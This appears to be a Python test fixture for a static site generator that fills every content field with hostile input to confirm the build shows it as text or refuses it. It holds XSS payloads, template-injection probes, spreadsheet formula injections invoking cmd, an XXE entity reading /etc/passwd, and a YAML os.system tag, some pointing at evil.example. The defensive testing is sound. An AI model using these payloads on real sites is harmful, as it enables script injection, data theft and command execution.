"""A corpus of hostile input, and a content folder that puts every payload in every text field.

``PAYLOADS`` are strings an attacker (or a careless copy-paste) may put into a pull request: tags
with scripts and event handlers, ``javascript:``/``data:``/``vbscript:`` URLs in their many
spellings, break-outs from ``<script>``, ``<style>``, attributes and JSON, Markdown raw HTML,
reference links, autolinks and attr_list attributes, template syntax and spreadsheet formulas.
Where a payload would run, it calls ``__pwned()`` (the browser test counts the calls; ``alert``,
``confirm``, ``prompt`` and ``print`` count too). They must build into a site that shows them as
text: in every text field, and in Markdown bodies those of ``MARKDOWN_PAYLOADS``.

``RAW_HTML``, ``REFUSED_MARKDOWN`` and ``REFUSED_FIELDS`` must instead be content errors with file and
line: raw HTML in Markdown outside code (it would show as typed, an HTML comment too), remote images
(nothing may come from another host), ``{{ … }}`` in Markdown (an unknown figure), URL fields that are
not http(s), YAML tags.

:func:`hostile_site` writes the content folder, :data:`PLACES` says where each payload went.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

from conftest import make_site
from sitegen.content.model import REPORT_SECTIONS

PWN = "__pwned()"
DATA_B64 = "data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKCk8L3NjcmlwdD4="  # <script>__pwned()</script>

SCRIPT_TAGS = [
    "<script>__pwned()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>__pwned()</scr</script>ipt>",
    "<img src=x onerror=__pwned()>",
    "<IMG SRC=x OnErRoR=__pwned()>",
    "<svg onload=__pwned()>",
    "<svg><script>__pwned()</script></svg>",
    '<svg><a xlink:href="javascript:__pwned()"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=__pwned() attributeName=x dur=1s>",
    '<iframe src="javascript:__pwned()"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned()</script>"></iframe>',
    '<object data="javascript:__pwned()"></object>',
    '<embed src="javascript:__pwned()">',
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>",
    '<math href="javascript:__pwned()">x</math>',
    "<details open ontoggle=__pwned()>",
    "<body onload=__pwned()>",
    "<input autofocus onfocus=__pwned()>",
    "<video><source onerror=__pwned()></video>",
    '<a href="javascript:__pwned()">x</a>',
    '<form action="javascript:__pwned()"><button>x</button></form>',
    '<base href="javascript:__pwned()//">',
    '<meta http-equiv="refresh" content="0;url=javascript:__pwned()">',
    '<noscript><p title="</noscript><img src=x onerror=__pwned()>">',
    "<template><script>__pwned()</script></template>",
    "<marquee onstart=__pwned()>x</marquee>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(javascript:__pwned())">x</div>',
    "<link rel=stylesheet href=//evil.example/x.css>",
]

URLS = [
    "javascript:__pwned()",
    "JaVaScRiPt:__pwned()",
    "java\tscript:__pwned()",
    "java\nscript:__pwned()",
    "java\rscript:__pwned()",
    "   javascript:__pwned(1)",
    "&#106;avascript:__pwned()",
    "&#x6A;avascript&colon;__pwned()",
    "javascript&colon;__pwned()",
    "javascript%3A__pwned()",
    "%6Aavascript:__pwned()",
    "javascript://%0a__pwned()",
    "data:text/html,<script>__pwned()</script>",
    DATA_B64,
    "DATA:image/svg+xml,<svg onload=__pwned()>",
    "vbscript:msgbox(1)",
    "VBScript:__pwned()",
]

MARKDOWN = [
    "[click](javascript:__pwned())",
    "[click](JAVASCRIPT:__pwned\\(\\))",
    "[click](&#106;avascript:__pwned())",
    "[click](java&#x09;script:__pwned())",
    "[x][1]\n\n[1]: javascript:__pwned()",
    "[x][d]\n\n[d]: data:text/html,<script>__pwned()</script>",
    "<javascript:__pwned()>",
    "<vbscript:msgbox(1)>",
    f"[x]({DATA_B64})",
    "![x](javascript:__pwned())",
    '![x" onerror="__pwned()](x)',
    '[x](https://example.gov.cn/" onmouseover="__pwned())',
    '<https://example.gov.cn/" onmouseover="__pwned()>',
    'a paragraph\n{: onclick="__pwned()" }',
    "## heading {: onclick=__pwned() }",
    "[x](https://example.gov.cn/){: onclick=__pwned() }",
    "`code <script>__pwned()</script>`",
    "    <script>__pwned(2)</script>",
    "``<!-- 备注：代码里的注释 __pwned(3) -->``",
    "```\n<br> in a fence <img src=x onerror=__pwned()>\n```",
    "[x](https://example.gov.cn/?q=<b>x</b>) __pwned(4)",
    '<img src="https://evil.example/x.png">',
    "<img src=//evil.example/x.png>",
    "![x](%2F%2Fevil.example/x.png)",
    "| a | b |\n|---|---|\n| <img src=x onerror=__pwned()> | [y](javascript:__pwned()) |",
]

BREAKOUTS = [
    "</script><script>__pwned()</script>",
    "</SCRIPT ><script>__pwned()</script>",
    "</style><script>__pwned()</script>",
    "</title><script>__pwned()</script>",
    "</textarea><script>__pwned()</script>",
    "<!--<script>__pwned()</script>-->",
    "<!-- unclosed comment",
    "--><script>__pwned()</script>",
    "]]><script>__pwned()</script>",
    "<![CDATA[<script>__pwned()</script>]]>",
    "line\u2028separator\u2029paragraph __pwned()",
    '"};__pwned();//',
    "'};__pwned();//",
    '" onmouseover="__pwned()" x="',
    "' onmouseover='__pwned()' x='",
    "` onmouseover=__pwned() x=`",
    '"><script>__pwned()</script>',
    "'><img src=x onerror=__pwned()>",
    '\\"><svg onload=__pwned()>',
    "&lt;script&gt;__pwned()&lt;/script&gt;",
    "&amp;lt;img src=x onerror=__pwned()&amp;gt;",
    '<?xml-stylesheet href="//evil.example/x.xsl"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "\ufeff<script>__pwned()</script>",
    "\u202egpj.exe",
]

TEMPLATES = [
    "{{ 7*7 }}",
    "{{ 1337*1337 }}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{% raw %}x{% endraw %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{7*7} {0} {n}",
    "%s%s%n%x",
]

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+3",
    '=HYPERLINK("http://evil.example","x")',
    "-2+3+cmd|' /C calc'!A0",
]

PAYLOADS: list[str] = [*SCRIPT_TAGS, *URLS, *MARKDOWN, *BREAKOUTS, *TEMPLATES, *FORMULAS]
"""Every payload, each unique (they also serve as names that must stay distinct)."""

EVALUATED = ("49", "1787569")
"""What the template payloads give if something evaluates them (only whole words count)."""

_PLACEHOLDER = re.compile(r"\{\{\s*([^{}]*?)\s*\}\}")
_HTML = re.compile(r"<(?:!--|!\[CDATA\[|![A-Za-z]|\?|/?[A-Za-z][A-Za-z0-9-]*(?=[\s/>]))")
CODE_OR_URL = [
    "`code <script>__pwned()</script>`",
    "    <script>__pwned(2)</script>",
    "``<!-- 备注：代码里的注释 __pwned(3) -->``",
    "```\n<br> in a fence <img src=x onerror=__pwned()>\n```",
    "[x][d]\n\n[d]: data:text/html,<script>__pwned()</script>",
    "[x](https://example.gov.cn/?q=<b>x</b>) __pwned(4)",
]
"""Markdown payloads whose HTML is code (a code span, an indented block) or part of a link's address."""
RAW_HTML = [p for p in PAYLOADS if _HTML.search(p) and p not in CODE_OR_URL and not _PLACEHOLDER.search(p)]
"""Payloads with an HTML tag, comment or declaration that a Markdown body would show as typed: refused there."""
MARKDOWN_PAYLOADS = [p for p in PAYLOADS if not _PLACEHOLDER.search(p) and p not in RAW_HTML]
"""Payloads for Markdown bodies: ``{{ name }}`` there is a figure placeholder, refused when unknown, and
raw HTML is refused."""

REFUSED_MARKDOWN: list[str] = [
    "![](http://evil.example/x.png)",
    "![x](HTTPS://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](\\\\\\\\evil.example\\x.png)",
    "![x](<//evil.example/x.png>)",
    "![x](&#47;&#47;evil.example/x.png)",
    "![x](ht&#116;ps://evil.example/x.png)",
    "![x]( \t//evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://example.gov.cn/)",
    "![x](/\\evil.example/x.png)",
    "![x][img]\n\n[img]: https://evil.example/x.png",
    "{{ 7*7 }}",
    "{{ config.__class__ }}",
]
"""Markdown that must not build: each is a content error at its line. (Raw HTML such as
``<img src=//evil.example/x.png>`` is refused too, as ``RAW_HTML``; in text fields it shows as typed,
where the browser test would see a request to another host.)"""

REFUSED_FIELDS: list[tuple[str, str]] = [
    ("friendly link url", "javascript:__pwned()"),
    ("friendly link url", " javascript:__pwned()"),
    ("friendly link url", DATA_B64),
    ("friendly link url", "vbscript:msgbox(1)"),
    ("friendly link url", "//evil.example/"),
    ("base_url", "javascript:__pwned()//"),
    ("yaml tag", "!!python/object/apply:os.system ['__pwned']"),
    ("yaml tag", "!!binary PHNjcmlwdD4="),
]
"""Values for fields that must be refused (field, value)."""

REFUSED_IN_NEWS: list[str] = [p for p in MARKDOWN_PAYLOADS if p.startswith("![")]
"""Markdown payloads that narratives show, but that a news text refuses at their line: a news picture must be
a picture file of the content folder (:mod:`sitegen.site.images`), and these name none (``javascript:``, a
missing ``x``, an address made of ``%2F``)."""
NEWS_PICTURES: list[str] = [
    '![x" onerror="__pwned()](images/p.png)',
    '![x](images/p.png "\\" onmouseover=\\"__pwned()")',
    "![alt&quot; onerror=&quot;__pwned()](images/p.png 'caption\" onmouseover=\"__pwned()')",
    "![</figcaption></figure>__pwned()](images/p.png '&lt;/figcaption&gt;&lt;script&gt;__pwned()&lt;/script&gt;')",
    '[![x" onfocus="__pwned()](images/p.png)](javascript:__pwned())',
]
"""Pictures in a news text that exist, with payloads in the alt text, the caption and a link around them."""


# --------------------------------------------------------------------------- writing YAML

_PRINTABLE = re.compile("[\x09\x0a\x0d\x20-\x7e\xa0-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def yaml_str(text: str) -> str:
    """``text`` as a YAML double-quoted scalar that reads back exactly (line breaks escaped too)."""
    out = []
    for ch in text:
        if ch in '"\\':
            out.append("\\" + ch)
        elif ch in "\n\r\t":
            out.append({"\n": "\\n", "\r": "\\r", "\t": "\\t"}[ch])
        elif ch in "\ufeff\x85\u2028\u2029" or not _PRINTABLE.match(ch):  # YAML counts U+2028 as a line end
            out.append(f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else f"\\U{ord(ch):08x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


def text(zh: str, en: str, indent: int) -> str:
    pad = " " * indent
    return f"\n{pad}zh: {yaml_str(zh)}\n{pad}en: {yaml_str(en)}"


SEP = " ◆ "
"""Joins payloads that share one field."""


def joined(payloads: list[str]) -> str:
    return SEP.join(payloads)


# --------------------------------------------------------------------------- the site

UNIT = "demo"
"""The unit that holds events, trainings, narratives and the period report."""
YEARS = {2021: "observance", 2022: "campaign", 2023: "kind"}
"""Each year's events are classified only by this, so its names become the chart's series."""


def _site_yaml(p: list[str]) -> str:
    links = "".join(f"\n  - name:{text(v, v, 6)}\n    url: https://example.gov.cn/link/{i}/" for i, v in enumerate(p))
    return f"""\
name:{text(joined(p), joined(p[::-1]), 2)}
organizer:{text(joined(p), joined(p[::-1]), 2)}
base_url: https://www.example.gov.cn/pufa/
site_id_code: "4201170001"
icp: {yaml_str(joined(p))}
police_record: {yaml_str(joined(p))}
contact:
  phone: {yaml_str(joined(p))}
  email: {yaml_str(joined(p))}
  address:{text(joined(p), joined(p), 4)}
  postcode: {yaml_str(p[-1])}
column:
  name:{text(joined(p), joined(p), 4)}
  description:{text(joined(p), joined(p), 4)}
  keywords:{text(joined(p), joined(p), 4)}
  type: {yaml_str(joined(p))}
friendly_links:{links}
"""


def _periods_yaml(p: list[str]) -> str:
    milestones = "".join(f"\n      - year: 2023\n        name:{text(v, v, 10)}" for v in p)
    return f"""\
periods:
  - id: bawu
    name:{text(joined(p), joined(p[::-1]), 6)}
    start: 2021
    end: 2025
    status: active
    milestones:{milestones}
"""


def _registry(kind: str, prefix: str, p: list[str], when: str) -> str:
    return f"{kind}:" + "".join(f"\n  - id: {prefix}{i}\n    name:{text(v, v, 6)}{when}" for i, v in enumerate(p))


def _observances_yaml(p: list[str]) -> str:
    return "\n".join(
        [
            _registry("observances", "o", p, "\n    date: 12-04"),
            _registry("campaigns", "c", p, ""),
            _registry("kinds", "k", p, ""),
        ]
    )


def _event(i: int, year: int, ref: str, value: str) -> str:
    return (
        f"\n  - date: {year}-{i % 12 + 1:02d}-{i % 28 + 1:02d}"
        f"\n    title:{text(value, value, 6)}"
        f"\n    {ref}"
        f"\n    participants: {i + 1}"
        f"\n    location:{text(value, value, 6)}"
        f"\n    description:{text(value, value, 6)}"
        f"\n    media:\n      - {yaml_str(value)}"
    )


def _year_yaml(p: list[str], year: int, by: str) -> str:
    ref = {"observance": "observance: o{i}", "campaign": "campaign: c{i}", "kind": "kind: k{i}"}[by]
    events = "".join(_event(i, year, ref.format(i=i), v) for i, v in enumerate(p))
    trainings = "".join(
        f"\n  - date: {year}-03-01\n    kind: lecture\n    title:{text(v, v, 6)}\n    speaker:{text(v, v, 6)}"
        f"\n    participants: {i + 1}"
        for i, v in enumerate(p)
    )
    items = "".join(f"\n    - title:{text(v, v, 8)}\n      amount: {i + 100}" for i, v in enumerate(p))
    return f"events:{events}\ntrainings:{trainings}\nfunding:\n  budget: 10000\n  items:{items}\n"


def _period_record(p: list[str]) -> str:
    systems = "".join(f"\n  - name:{text(v, v, 6)}\n    description:{text(v, v, 6)}" for v in p)
    norms = "".join(f"\n  - title:{text(v, v, 6)}\n    minimum: 2\n    unit:{text(v, v, 6)}" for v in p)
    laws = "".join(f"\n  - {yaml_str(v)}" for v in p)
    return f"""\
source:{text(joined(p), joined(p), 2)}
published: 2025-12-01 09:30
leading_group:
  head:{text(joined(p), joined(p), 4)}
  members:{text(joined(p), joined(p), 4)}
  adjusted: [2023]
  staff:{text(joined(p), joined(p), 4)}
systems:{systems}
norms:{norms}
laws_studied:{laws}
media:{laws}
"""


def _chunks(items: list[str], count: int) -> list[list[str]]:
    return [items[i::count] for i in range(count)]


def markdown_body(payloads: list[str]) -> str:
    return "\n\n".join(["正文 / Text:", *payloads, "结束 / End."]) + "\n"


def _narratives(p: list[str]) -> dict[str, str]:
    files: dict[str, str] = {}
    md = [v for v in p if v in MARKDOWN_PAYLOADS]
    for lang in ("zh", "en"):
        for year, chunk in zip(range(2021, 2026), _chunks(md, 5), strict=True):
            files[f"units/{UNIT}/{year}.{lang}.md"] = markdown_body(chunk)
        for section, chunk in zip(REPORT_SECTIONS, _chunks(md, len(REPORT_SECTIONS)), strict=True):
            files[f"units/{UNIT}/bawu/{section}.{lang}.md"] = markdown_body(chunk)
    return files


UNIT_GROUP = 3
"""Payloads per unit name (and per news item, ``NEWS_GROUP``): fewer pages for the browser to load."""
NEWS_GROUP = 2


def groups(items: list[str], size: int) -> list[list[str]]:
    return [items[i : i + size] for i in range(0, len(items), size)]


def _picture() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (40, 30), "#b30000").save(out, "PNG")
    return out.getvalue()


def _news(p: list[str]) -> dict[str, str | bytes]:
    files: dict[str, str | bytes] = {"news/images/p.png": _picture(), "files/a.pdf": b"%PDF-1.4\n%%EOF\n"}
    for i, group in enumerate(groups(p, NEWS_GROUP)):
        v, w = joined(group), joined(group[::-1])
        shown = [g for g in group if g in MARKDOWN_PAYLOADS and g not in REFUSED_IN_NEWS]
        body = markdown_body(shown + (NEWS_PICTURES if i == 0 else []))
        stamp = f"2024-{i % 12 + 1:02d}-{i % 28 + 1:02d} {i % 24:02d}:{i % 60:02d}"
        zh = f"title: {yaml_str(v)}\ndate: {stamp}\nsource:{text(v, w, 2)}\nsummary: {yaml_str(v)}\n"
        zh += f"author:{text(v, w, 2)}\neditor:{text(w, v, 2)}\nreviewer: {yaml_str(v)}\n"
        zh += f"attachments:\n  - file: files/a.pdf\n    title:{text(v, w, 6)}\n"
        zh += f"image:\n  file: news/images/p.png\n  alt:{text(v, w, 4)}\n"
        en = f"title: {yaml_str(w)}\nsource: {yaml_str(w)}\nsummary: {yaml_str(w)}\n"
        files[f"news/n{i:03d}.zh.md"] = f"---\n{zh}---\n\n{body}"
        files[f"news/n{i:03d}.en.md"] = f"---\n{en}---\n\n{body}"
    return files


def _units(p: list[str]) -> dict[str, str]:
    files = {f"units/{UNIT}/unit.yaml": f"name:{text(p[0], p[-1], 2)}\norder: 0\n"}
    for i, group in enumerate(groups(p, UNIT_GROUP)):
        v, w = joined(group), joined(group[::-1])
        files[f"units/u{i:03d}/unit.yaml"] = (
            f"name:{text(v, w, 2)}\nshort_name:{text(w, v, 2)}\nparent:{text(v, w, 2)}\norder: {i + 1}\n"
        )
    return files


def hostile_files(p: list[str]) -> dict[str, str | bytes | None]:
    """Every payload of ``p`` in every text field that reaches an output file."""
    files: dict[str, str | bytes | None] = {
        "site.yaml": _site_yaml(p),
        "periods.yaml": _periods_yaml(p),
        "observances.yaml": _observances_yaml(p),
        f"units/{UNIT}/bawu.yaml": _period_record(p),
        **_units(p),
        **_narratives(p),
        **_news(p),
    }
    for year, by in YEARS.items():
        files[f"units/{UNIT}/{year}.yaml"] = _year_yaml(p, year, by)
    return files


def hostile_site(tmp_path: Path, payloads: list[str] = PAYLOADS) -> Path:
    """The content folder of a site with every payload in every text field."""
    return make_site(tmp_path, hostile_files(payloads))


PLACES = {
    "unit name": "zh/units/index.html (UNIT_GROUP payloads per unit)",
    "event title": "zh/units/demo/2021/index.html",
    "news title": "zh/news/",
    "friendly link": "every page's footer",
    "observance / campaign / kind names": "year charts (JSON, table, CSV) of 2021 / 2022 / 2023",
}
"""Where the tests read each kind of field back (for people reading a failure)."""
